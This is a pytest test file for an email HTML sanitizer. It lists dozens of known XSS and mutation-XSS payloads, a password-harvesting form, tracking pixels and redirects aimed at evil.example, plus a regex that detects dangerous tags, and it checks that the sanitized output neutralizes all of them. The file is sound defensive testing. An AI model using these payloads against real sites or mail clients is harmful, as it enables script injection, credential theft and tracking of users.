"""A letter's HTML shown: nothing runs, nothing is fetched, nothing hides where it leads."""

import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from samdrift.plumbing.mail import html_text, safe_html

# ruff: noqa: E501  Attacks stand as they were found.
ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java&#x0A;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<form action=https://evil.example><input name=password><button>OK</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<body onload=alert(1)>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src='data:image/svg+xml;base64,PHN2Zz4='>",
    "<img src='javascript:alert(1)'>",
    "<img src='//evil.example/x.gif'>",
    "<img srcset='https://evil.example/x.gif 1x'>",
    "<picture><source srcset=https://evil.example/x.gif><img></picture>",
    "<table background='https://evil.example/x.gif'><tr><td>x</table>",
    "<td background='https://evil.example/x.gif'>",
    "<input type=image src=https://evil.example/x.gif>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<!--<img src='--><img src=x onerror=alert(1)//'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<x onclick=alert(1)>x",
    "<p id=content class=btn>x</p>",
    "<a target=_self href=https://evil.example>x</a>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<select><script>alert(1)</script></select>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "\x00<script>alert(1)</script>",
    "<sc\x00ript>alert(1)</script>",
    "<img/src=x/onerror=alert(1)>",
    "<a href=\"x\" onmouseover=\"alert(1)\">https://bank.example</a>",
]  # fmt: skip

RUNS = re.compile(
    r"<\s*(?:script|iframe|object|embed|svg|math|style|link|meta|base|form|input|button|video|audio|source"
    r"|template|noscript|textarea)\b|\son\w+\s*=|javascript:|vbscript:|data:(?!image/(?:png|jpe?g|gif|webp);)"
    r"|\sstyle\s*=|\sclass\s*=|\sid\s*=|\ssrcset\s*=|\sbackground\s*=",
    re.IGNORECASE,
)  # fmt: skip


def tags(html):
    """Return what a browser would take as tags."""
    return " ".join(re.findall(r"<[^>]*>", html))


def show(html, **told):
    return safe_html.shown(html, picture={"bild1": "/brev/1/bild1"}.get, **told)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_is_fetched(attack):
    shown = show(f"<p>före</p>{attack}<p>efter</p>")

    assert RUNS.search(tags(shown.html)) is None
    assert 'src="http' not in shown.html
    assert "före" in shown.html


@given(st.lists(st.sampled_from([*ATTACKS, "<b>", "</b>", "'", '"', ">", "<", "</p>"]), max_size=8))
def test_attacks_put_together_do_not_run_either(pieces):
    assert RUNS.search(tags(show("".join(pieces)).html)) is None


def test_what_is_shown_can_be_shown_again_and_is_the_same():
    once = show("<p>Hej <b>du</b><br><a href='https://a.se/?x=1&y=2'>a.se</a></p>").html

    assert show(once).html == once


def test_pictures_of_the_letter_are_shown_from_its_attachments():
    shown = show('<img src="cid:bild1" alt="b"><img src="cid:okänd">')

    assert shown.html == '<img src="/brev/1/bild1" alt="b"><img>'
    assert shown.remote_pictures == 0


def test_pictures_from_afar_wait_until_somebody_asks():
    letter = '<img src="https://spy.example/a.gif" width="1" height="1">'

    assert sorted(show(letter).html[1:-1].split()) == ['height="1"', "img", 'width="1"']
    assert show(letter).remote_pictures == 1
    assert 'src="https://spy.example/a.gif"' in show(letter, may_fetch_pictures=True).html


def test_a_link_that_says_another_address_tells_where_it_leads():
    shown = show('<a href="https://evil.example/login">www.kommun.se</a>')

    assert shown.hidden_targets == ("https://evil.example/login",)
    assert shown.html.endswith("</a> <b>[evil.example]</b>")


@pytest.mark.parametrize("said", ["www.kommun.se", "https://kommun.se/x", "Läs mer", "kommun.se"])
def test_a_link_that_leads_where_it_says_is_left_alone(said):
    assert show(f'<a href="https://www.kommun.se/x">{said}</a>').hidden_targets == ()


@pytest.mark.parametrize(
    "piece",
    ["<div>", "<b>", "<blockquote>", "<a href=x>", "<table><td>", "<b><div></b>", "<", "<!--"],
)
def test_nesting_without_end_is_quick(piece):
    began = time.monotonic()

    show(piece * 100_000 + "slut")
    html_text.text_of(piece * 100_000 + "slut")

    assert time.monotonic() - began < 20


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>a</p><p>b</p>", "a\n\nb"),
        ("<div>a</div><div>b</div>", "a\nb"),
        ("a<br>b<br><br>c", "a\nb\n\nc"),
        ("<ul><li>a<li>b</ul>c", "- a\n- b\n\nc"),
        ("<table><tr><td>a<td>b<tr><td>c</table>", "a\tb\nc"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<blockquote>a<blockquote>b</blockquote></blockquote>c", "> a\n>> b\n\nc"),
        ("<style>x{}</style><title>t</title>a", "a"),
        ("<a href='https://a.se/b'>här</a>", "här <https://a.se/b>"),
        ("<a href='https://a.se/b'>https://a.se/b</a>", "https://a.se/b"),
        ("<img alt='Karta' src=x>", "[Karta]"),
        ("a &lt;b&gt; &amp; c", "a <b> & c"),
        ("", ""),
    ],
)
def test_html_is_told_as_text(html, text):
    assert html_text.text_of(html) == text
